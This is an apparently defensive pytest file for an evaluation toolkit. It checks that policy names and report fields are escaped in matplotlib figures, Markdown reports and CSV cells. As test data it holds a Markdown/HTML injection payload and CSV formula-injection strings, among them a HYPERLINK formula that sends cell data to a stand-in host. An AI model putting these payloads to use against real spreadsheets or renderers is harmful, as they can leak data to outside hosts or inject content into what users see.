"""Every input string lands escaped for the medium it reaches: matplotlib text (no mathtext, no
TeX), report.md (Markdown, every printed value), CSV cells (no live formula).  Each test uses a
forged name or document; each fails when its guard is removed."""

from __future__ import annotations

import copy
import csv
import io
import json
import re

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner
from matplotlib.text import Text

from evalkit.cli.main import cli
from evalkit.report import figures as figs
from evalkit.report.render import build_figures, render_html, render_md
from tests.support import fixture_model

# bursty_report (tests/report/conftest.py) is built once: one worker runs its readers
pytestmark = pytest.mark.xdist_group("bursty_report")

MATH = "$\\foo$"                       # unknown mathtext command: parsing it raises
MATH_NAMES = [MATH, "$x^2$ and $$y$$", "a $\\frac{1}{0}$ b", "cost: $5 and $6"]


def _per_seed(n: int = 4) -> pd.DataFrame:
    v = np.linspace(0.1, 0.13, n)
    return pd.DataFrame({"seed": range(n), "v_policy": v, "v_mr_mean": v + 0.02,
                         "v_mr_min": v + 0.01, "v_mr_max": v + 0.03, "v_no_sync": v - 0.01,
                         "d": np.full(n, 0.02)})


def _drawn_texts(monkeypatch) -> list[str]:
    """Collects every text of every figure as it is drawn (after the guard ran)."""
    seen = []
    real = figs._png

    def spy(fig):
        png = real(fig)
        seen.extend(t.get_text() for t in fig.findobj(Text)
                    if t.get_visible() and not t.get_parse_math())
        return png
    monkeypatch.setattr(figs, "_png", spy)
    return seen


@pytest.mark.parametrize("name", MATH_NAMES)
def test_a_mathtext_policy_name_is_drawn_as_its_characters(name, monkeypatch):
    seen = _drawn_texts(monkeypatch)
    figure = figs.v_per_seed(_per_seed(), name)
    assert figure.png.startswith(b"\x89PNG")
    # drawn, with parsing off, as the very characters of the name (legend and title)
    assert name in seen and any(name in t for t in seen if t.startswith("V per seed"))


def test_every_figure_kind_draws_a_mathtext_name_as_text(monkeypatch):
    """Names reach titles, legends and tick labels (mechanisms): none is parsed."""
    seen = _drawn_texts(monkeypatch)
    phi = pd.DataFrame({"run_id": ["p", "d", "o"], "phi": [1.0, 2.0, 3.0],
                        "vex": [0.01, 0.02, 0.03]})
    figs.psi_claim(phi, np.array([0.0, 2.0, 4.0]), np.array([0.0, 0.01, 0.02]), 0.01, MATH,
                   ["p"], ["d"])
    runs = pd.DataFrame({"run_id": ["a", "b"], "role": ["policy", "matched_random"],
                         "policy": [MATH, "matched_random"], "exposure_requests": [0.1, 0.2],
                         "violation_rate": [0.1, 0.2]})
    figs.exposure_scatter(runs, 0.5)
    figs.transfer({MATH: {"rho_harness": 1.2, "rho_harness_ci": [1.1, 1.3],
                          "drain_min_requests": 1}})
    figs.null_distribution({"edges": [-1.0, 0.0, 1.0], "counts": [3, 4], "size": 7,
                            "observed": 0.5, "p_value": 0.3, "alternative": "two-sided",
                            "test": MATH, "statistic": "mean"})
    assert sum(MATH in t for t in seen) >= 5, seen


# ---------------------------------------------------------------------- figure geometry

LONG_TITLES = [
    lambda: figs.null_distribution({"edges": [-1.0, 0.0, 1.0], "counts": [3, 4], "size": 7,
                                     "observed": 0.5, "p_value": 0.3,
                                     "alternative": "two-sided",
                                     "test": "studentized within-seed permutation",
                                     "statistic": "studentized"}),
    lambda: figs.v_per_seed(_per_seed(), "w" * figs.LABEL_LIMIT),
    lambda: figs.v_per_seed(_per_seed(), "calibrated_online_with_a_long_name"),
]


def _extents(monkeypatch) -> list[tuple]:
    """(text, x0, x1, y0, y1, width, height) of every figure title and legend as drawn."""
    out = []
    real = figs._finish

    def spy(fig, title, alt):
        fig.canvas.draw()
        renderer = fig.canvas.get_renderer()
        width, height = fig.bbox.width, fig.bbox.height
        for artist in [fig._suptitle, *fig.legends]:
            box = artist.get_window_extent(renderer)
            label = artist.get_text() if isinstance(artist, Text) else "legend"
            out.append((label, box.x0, box.x1, box.y0, box.y1, width, height))
        return real(fig, title, alt)
    monkeypatch.setattr(figs, "_finish", spy)
    return out


@pytest.mark.parametrize("make", LONG_TITLES, ids=["null-studentized", "v-per-seed-limit",
                                                   "v-per-seed-shortened"])
def test_titles_and_legends_fit_inside_the_figure(make, monkeypatch):
    boxes = _extents(monkeypatch)
    make()
    assert boxes
    for label, x0, x1, y0, y1, width, height in boxes:
        assert 0 <= x0 and x1 <= width and 0 <= y0 and y1 <= height, (label, x0, x1, width)


def test_the_null_legend_says_its_p_is_unadjusted(monkeypatch):
    seen = _drawn_texts(monkeypatch)
    figure = figs.null_distribution({"edges": [-1.0, 0.0, 1.0], "counts": [3, 4], "size": 7,
                                     "observed": 0.5, "p_value": 0.03,
                                     "alternative": "two-sided", "test": "sign-flip",
                                     "statistic": "mean"})
    legend = [t for t in seen if t.startswith("observed")]
    assert legend == ["observed G = +50 pp (unadjusted two-sided p = 0.03)"], seen
    assert "unadjusted two-sided p = 0.03" in figure.alt


# ------------------------------------------------------------------ end to end: audit

def _campaign_of(runs, policy: str, seeds) -> None:
    """The fixture campaign (policy, two matched-random draws and no-sync per seed) for a
    policy name that is not a usable run id."""
    for seed in seeds:
        rng = np.random.default_rng([seed, 1])
        fixture_model.write(runs, run_id=f"policy-s{seed}", policy=policy, role="policy",
                            seed=seed, regime="r",
                            starts=fixture_model.schedule("good", seed, rng))
        for draw in range(2):
            fixture_model.write(runs, run_id=f"mr-s{seed}-d{draw}", policy="matched_random",
                                role="matched_random", seed=seed, regime="r", draw=draw,
                                matched_to=policy, starts=fixture_model.random_schedule(
                                    np.random.default_rng([seed, draw, 7]), fixture_model.K,
                                    float(fixture_model.trace(seed).arrival_s.min())))
        fixture_model.write(runs, run_id=f"no_sync-s{seed}", policy="no_sync", role="no_sync",
                            seed=seed, regime="r", starts=np.array([]))


def test_evalkit_audit_of_a_campaign_whose_policy_is_mathtext(tmp_path):
    """The reported crash: exit 3 from matplotlib's mathtext parser on a policy name."""
    runs = tmp_path / "runs"
    _campaign_of(runs, MATH, seeds=range(3))
    out = tmp_path / "report"
    res = CliRunner().invoke(cli, ["audit", str(runs), "--out", str(out)])
    assert res.exit_code in (0, 1), (res.exit_code, res.output[-2000:])
    assert list((out / "figures").glob("*v_per_seed.png"))
    assert "\\$\\\\foo\\$" in (out / "report.md").read_text(encoding="utf-8")
    assert json.loads((out / "audit.json").read_text())["claims"][0]["policy"] == MATH


# ---------------------------------------------------------------------------- Markdown

markdown_it = pytest.importorskip("markdown_it", reason="markdown-it-py (dev extra) renders "
                                                        "report.md")
PAYLOAD = ("![px](https://e.example/p.png) [click](https://e.example) <b>raw</b> "
           "&amp; `code` **bold**\n# heading\n- item | cell |")


@pytest.fixture(scope="module")
def forged_base(bursty_report):
    """A real audit document of the small bursty campaign and its figures (drawn once)."""
    _, out = bursty_report
    doc = json.loads((out / "audit.json").read_text())
    return doc, build_figures(doc)


def _html_of(markdown: str) -> str:
    return markdown_it.MarkdownIt("commonmark").enable("table").render(markdown)


def _live(html_text: str) -> dict:
    """What the rendered Markdown holds beyond text: links, images, raw HTML, headings."""
    return {"links": html_text.count("<a "), "images": html_text.count("<img"),
            "raw": html_text.count("<b>"), "code": html_text.count("<code>"),
            "headings": len(re.findall(r"<h[1-6]", html_text)),
            "strong": html_text.count("<strong>"), "cells": html_text.count("<td")}


def _set(doc: dict, path: tuple, value) -> dict:
    forged = copy.deepcopy(doc)
    node = forged
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value
    return forged


def _leaf_paths(node, path=()):
    """The path of every scalar of the document (the first item of each list; no figure
    data, which only figures draw)."""
    if isinstance(node, dict):
        for key, value in node.items():
            if key != "figure_data":
                yield from _leaf_paths(value, path + (key,))
    elif isinstance(node, list):
        if node:
            yield from _leaf_paths(node[0], path + (0,))
    else:
        yield path


@pytest.mark.parametrize("path", [("protocol", "version"), ("input", "n_runs"),
                                  ("evalkit_version",), ("protocol", "content_sha256"),
                                  ("protocol", "multiplicity"), ("alternative",)])
def test_a_forged_field_cannot_add_markdown(forged_base, path):
    """The reported fields (protocol.version and input.n_runs went into report.md raw)."""
    doc, figures = forged_base
    clean = _live(_html_of(render_md(doc, figures)))
    forged = _set(doc, path, PAYLOAD)
    markdown = render_md(forged, figures)
    assert _live(_html_of(markdown)) == clean
    assert "\\!\\[px" in markdown                    # printed, as its characters
    page = render_html(forged, figures)                 # and the page: Jinja's autoescape
    assert "<b>raw</b>" not in page
    if "e.example/p.png" in markdown:                   # printed whole, not a 12-digit hash
        assert "&lt;b&gt;raw&lt;/b&gt;" in page


@pytest.mark.slow
def test_no_field_of_a_forged_document_adds_markdown(forged_base):
    """Every scalar of the document in turn replaced by the payload: report.md renders it as
    text or refuses the document; a field the report does not print changes nothing."""
    doc, figures = forged_base
    clean = _live(_html_of(render_md(doc, figures)))
    shown, leaks = 0, []
    for path in _leaf_paths(doc):
        try:
            markdown = render_md(_set(doc, path, PAYLOAD), figures)
        except Exception:  # noqa: BLE001 - a shape the report cannot use: not this test's case
            continue
        shown += "e.example/p.png" in markdown
        if _live(_html_of(markdown)) != clean:
            leaks.append(path)
    assert not leaks
    assert shown >= 20               # the sweep reached the fields report.md prints


# --------------------------------------------------------------------------------- CSV

FORMULAS = ['=HYPERLINK("https://e.example/?q="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
            "\t=1", "\r=1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_cell_is_written_as_text(value):
    from evalkit.runlog.csv_cells import to_csv

    text = to_csv(pd.DataFrame({"policy": [value, "plain"], "v": [-0.25, 0.5]}))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1] == ["'" + value, "-0.25"]          # inert text; a negative number stays
    assert rows[2] == ["plain", "0.5"]


@pytest.mark.parametrize("to_file", [True, False], ids=["--out table.csv", "stdout"])
def test_summarize_writes_a_formula_policy_name_inert(tmp_path, to_file):
    """The reported case: a valid policy name ``=HYPERLINK(...)`` landed as a live formula."""
    name = FORMULAS[0]
    runs = tmp_path / "runs"
    fixture_model.write(runs, run_id="p-s0", policy=name, role="policy", seed=0, regime="r",
                        starts=fixture_model.schedule("fixed", 0, None))
    args = ["summarize", str(runs)] + (["--out", str(tmp_path / "table.csv")] if to_file
                                       else ["--format", "csv"])
    res = CliRunner().invoke(cli, args)
    assert res.exit_code == 0, res.output
    text = (tmp_path / "table.csv").read_text() if to_file else res.stdout
    (row,) = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row["policy"] == "'" + name and row["run_id"] == "p-s0"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values()
                   if not re.fullmatch(r"-?[\d.e+-]+|-?inf", cell))
